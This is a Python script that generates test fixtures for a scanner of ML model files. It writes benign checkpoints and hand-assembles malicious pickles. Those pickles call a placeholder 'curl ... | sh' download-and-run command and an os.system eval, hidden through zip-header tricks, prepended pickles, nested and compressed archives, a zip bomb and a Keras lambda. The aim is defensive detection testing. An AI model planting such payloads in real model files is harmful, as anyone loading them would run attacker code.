#!/usr/bin/python3
"""Generate the model analyzer's test fixtures.

Run with Debian's interpreter (python3-torch, python3-numpy, python3-joblib):

    /usr/bin/python3 scripts/gen_model_fixtures.py

Benign fixtures are REAL files written by torch.save, numpy.save and
joblib.dump. Malicious fixtures are written as BYTES: the pickle payloads are
assembled from opcodes below, never by pickling an object, and nothing here
ever loads or unpickles a fixture. The payload commands are inert strings;
they are never run by anything.

Outputs go to internal/analyzers/model/testdata/{ok,err}. The .want sidecars
are written by hand next to the err/ fixtures.
"""

import gzip
import io
import os
import pickle
import shutil
import struct
import subprocess
import tarfile
import zipfile

import joblib
import numpy as np
import torch

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "internal", "analyzers", "model", "testdata")
OK = os.path.join(ROOT, "ok")
ERR = os.path.join(ROOT, "err")


def out(d, name, data):
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


# ---------------------------------------------------------------- opcodes

def binunicode(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def call_global(module, name, *args, proto=2):
    """GLOBAL module.name, a tuple of string args, REDUCE, STOP."""
    body = b"c" + module.encode() + b"\n" + name.encode() + b"\n"
    body += b"(" + b"".join(binunicode(a) for a in args) + b"t"
    body += b"R"
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + body + b"."


SHELL = "curl -s https://models-cdn.example/update.sh | sh"
PAYLOAD = call_global("posix", "system", SHELL)
EVAL = call_global("builtins", "eval", "__import__('os').system('id')")


# ---------------------------------------------------------------- zip helpers

def torch_zip(data_pkl, top="archive", storages=None):
    """A zip laid out like torch.save's: stored members, top folder."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(top + "/data.pkl", data_pkl)
        z.writestr(top + "/byteorder", b"little")
        for k, v in (storages or {"0": struct.pack("<4f", 1, 2, 3, 4)}).items():
            z.writestr(top + "/data/" + k, v)
        z.writestr(top + "/version", b"3\n")
    return buf.getvalue()


def set_flags(data, member, flag):
    """OR flag into the local and central headers of member."""
    b = bytearray(data)
    name = member.encode()
    for sig, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        i = 0
        while True:
            i = b.find(sig, i)
            if i < 0:
                break
            if b[i + name_at:i + name_at + len(name)] == name:
                f = struct.unpack_from("<H", b, i + flag_at)[0] | flag
                struct.pack_into("<H", b, i + flag_at, f)
            i += 4
    return bytes(b)


def rename_local(data, member, new):
    """Change the local header's name only (same length)."""
    assert len(new) == len(member)
    b = bytearray(data)
    i = b.find(b"PK\x03\x04" + b"")
    while i >= 0:
        if b[i + 30:i + 30 + len(member)] == member.encode():
            b[i + 30:i + 30 + len(member)] = new.encode()
            return bytes(b)
        i = b.find(b"PK\x03\x04", i + 4)
    raise ValueError(member)


def npy_object(payload):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


# ---------------------------------------------------------------- benign

def benign():
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    b = io.BytesIO()
    torch.save(model.state_dict(), b)
    out(OK, "state_dict.pt", b.getvalue())
    b = io.BytesIO()
    torch.save(model.state_dict(), b, _use_new_zipfile_serialization=False)
    out(OK, "legacy_state_dict.pt", b.getvalue())

    rng = np.random.default_rng(0)
    b = io.BytesIO()
    np.save(b, rng.standard_normal((4, 3)).astype(np.float32))
    out(OK, "embeddings.npy", b.getvalue())
    b = io.BytesIO()
    np.savez(b, weights=rng.standard_normal((3, 2)), bias=np.zeros(2), labels=np.array(["cat", "dog"]))
    out(OK, "params.npz", b.getvalue())
    b = io.BytesIO()
    np.savez_compressed(b, mask=np.ones((64, 64), dtype=np.bool_))
    out(OK, "mask_compressed.npz", b.getvalue())

    path = os.path.join(OK, "scaler.joblib")
    joblib.dump({"mean": rng.standard_normal(5), "scale": np.ones(5), "n_samples_seen": 1200,
                 "feature_names": ["age", "income", "tenure", "visits", "score"]}, path)

    out(OK, "config.pkl", pickle.dumps({"lr": 3e-4, "epochs": 10, "layers": [64, 32], "name": "baseline"}, protocol=4))

    header = b'{"bias":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"__metadata__":{"format":"pt"}}'
    header += b" " * (-len(header) % 8)
    out(OK, "model.safetensors", struct.pack("<Q", len(header)) + header + struct.pack("<2f", 0.5, -0.5))


# ---------------------------------------------------------------- malicious

def malicious():
    out(ERR, "torch_zip_exec.pt", torch_zip(PAYLOAD))
    base = torch_zip(EVAL, top="resnet18")
    out(ERR, "zip_flag_encrypted.pt", set_flags(base, "resnet18/data.pkl", 0x1))
    out(ERR, "zip_flag_0x20.pt", set_flags(base, "resnet18/data.pkl", 0x20))
    out(ERR, "zip_flag_0x40.pt", set_flags(base, "resnet18/data.pkl", 0x40))
    # The central directory says config.txt; the local header (what PyTorch
    # streams) says data.pkl under another folder.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("model/config.txt", EVAL)
    out(ERR, "zip_name_mismatch.zip", rename_local(buf.getvalue(), "model/config.txt", "model/data.pkl__"))

    # PROTO 1: no pickler writes it, pickle.load accepts it; a scanner that
    # only knows PROTO 2-5 calls the file "unknown format".
    out(ERR, "proto1.pkl", b"\x80\x01cposix\nsystem\n(X\x02\x00\x00\x00idtR.")

    # A pickle glued in front of a benign torch zip: torch.load reads the
    # zip, pickle.load reads the pickle.
    good = torch_zip(pickle.dumps({"step": 1000}, protocol=2))
    out(ERR, "prepended_pickle.pt", PAYLOAD + good)

    # Legacy torch layout: magic, protocol, sys info, object, storage keys,
    # then raw storage bytes; the object pickle carries the payload.
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    proto = b"\x80\x02M\xe9\x03."
    sysinfo = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    keys = pickle.dumps(["94811"], protocol=2)
    storage = struct.pack("<q", 4) + struct.pack("<4f", 0.1, 0.2, 0.3, 0.4)
    out(ERR, "legacy_stacked.pt", magic + proto + sysinfo + PAYLOAD + keys + storage)

    ti = tarfile.TarInfo("checkpoints/model.pkl")
    ti.size = len(PAYLOAD)
    ti.mtime = 1700000000
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
        t.addfile(ti, io.BytesIO(PAYLOAD))
    out(ERR, "bundle.tar", b.getvalue())
    out(ERR, "bundle.tar.gz", gzip.compress(b.getvalue(), mtime=0))

    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("weights/payload.pkl", PAYLOAD)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("README.md", "Fine-tuned checkpoint, see inner archive.\n")
        z.writestr("inner.zip", inner.getvalue())
    out(ERR, "nested.zip", outer.getvalue())

    # A benign pickle followed by 8 MiB of zero padding, deflated: over
    # 100:1, a bomb for anything that inflates it.
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", pickle.dumps({"a": 1}, protocol=2) + b"\x00" * (8 << 20))
        z.writestr("archive/version", b"3\n")
    out(ERR, "bomb.pt", bomb.getvalue())

    out(ERR, "object_array.npy", npy_object(PAYLOAD))
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("labels.npy", npy_object(EVAL))
        z.writestr("values.npy", b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (0,), }".ljust(117) + b"\n")
    out(ERR, "object_member.npz", b.getvalue())

    out(ERR, "truncated.pkl", PAYLOAD[:-4])

    cfg = ('{"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": ['
           '{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [null, 4], "name": "input_layer"}},'
           '{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "scale", "function": {"class_name": "__lambda__",'
           ' "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wgAAACXAHwAZAF6BQAAUwApAk7pAgAAAKkAKQHaAXhzAQAAACD6HjxpcHl0aG9uLWlucHV0LTE+PHNhbHZhbW9uPnI1AAAAAQAAAPMIAAAAgACYMZghmTWAAPMAAAAA", "defaults": null, "closure": null}}}},'
           '{"module": "acme_layers.custom", "class_name": "Gate", "config": {"name": "gate"}, "registered_name": "acme>Gate"}'
           ']}}')
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", '{"keras_version": "3.3.3", "date_saved": "2024-05-01@10:00:00"}')
        z.writestr("config.json", cfg)
    out(ERR, "lambda.keras", b.getvalue())

    seven = shutil.which("7z") or shutil.which("7za")
    if seven:
        tmp = os.path.join(ERR, "_7z")
        os.makedirs(tmp, exist_ok=True)
        with open(os.path.join(tmp, "model.pkl"), "wb") as f:
            f.write(EVAL)
        dst = os.path.join(ERR, "archive.7z")
        if os.path.exists(dst):
            os.remove(dst)
        subprocess.run([seven, "a", "-bd", "-mtm=off", dst, "model.pkl"], cwd=tmp, check=True, stdout=subprocess.DEVNULL)
        shutil.rmtree(tmp)


def name_independent():
    """Pickles caught by what they do, not by a dangerous name."""
    # A class outside every allowlist, instantiated and given state: not known
    # to be dangerous, but nothing vouches for it either.
    unknown = (b"\x80\x02cacme_models.scoring\nRiskModel\n)\x81}"
               + binunicode("threshold") + b"G?\xe0\x00\x00\x00\x00\x00\x00" + b"sb.")
    out(ERR, "unknown_class.pkl", unknown)
    # BUILD applied to an allowlisted class object itself, not an instance:
    # it rewrites class attributes for everything loaded afterwards.
    state_on_class = (b"\x80\x02ccollections\nOrderedDict\n}"
                      + binunicode("__repr__") + binunicode("x") + b"sb.")
    out(ERR, "state_on_class.pkl", state_on_class)


def compressed():
    """joblib.load opens zlib, gzip, bz2, xz and lzma streams by their magic
    bytes, whatever the file is called."""
    import bz2
    import lzma
    import zlib

    rng = np.random.default_rng(1)
    scaler = {"mean": rng.standard_normal(5), "scale": np.ones(5), "n_samples_seen": 800}
    joblib.dump(scaler, os.path.join(OK, "scaler_zlib.joblib"), compress=3)  # zlib
    joblib.dump(scaler, os.path.join(OK, "scaler.joblib.xz"), compress=("xz", 3))
    joblib.dump(scaler, os.path.join(OK, "scaler.joblib.lzma"), compress=("lzma", 3))
    joblib.dump(scaler, os.path.join(OK, "scaler.joblib.bz2"), compress=("bz2", 3))
    # The payload compressed as bytes: nothing is pickled or loaded.
    out(ERR, "payload_zlib.joblib", zlib.compress(PAYLOAD, 6))
    out(ERR, "payload.pkl.xz", lzma.compress(PAYLOAD, format=lzma.FORMAT_XZ))
    out(ERR, "payload.pkl.lzma", lzma.compress(PAYLOAD, format=lzma.FORMAT_ALONE))
    out(ERR, "payload.pkl.bz2", bz2.compress(PAYLOAD))


def full_model():
    """A whole model saved with torch.save(model): real, harmless, and still
    outside the state-dict allowlist, as torch.load(weights_only=True) would
    also refuse it. The analyzer reports its layer classes as one finding."""
    torch.manual_seed(0)
    m = torch.nn.Sequential(torch.nn.Conv2d(3, 8, 3), torch.nn.BatchNorm2d(8), torch.nn.ReLU(),
                            torch.nn.Flatten(), torch.nn.Linear(8, 2))
    torch.save(m, os.path.join(ERR, "full_model.pt"))


if __name__ == "__main__":
    benign()
    malicious()
    name_independent()
    compressed()
    full_model()
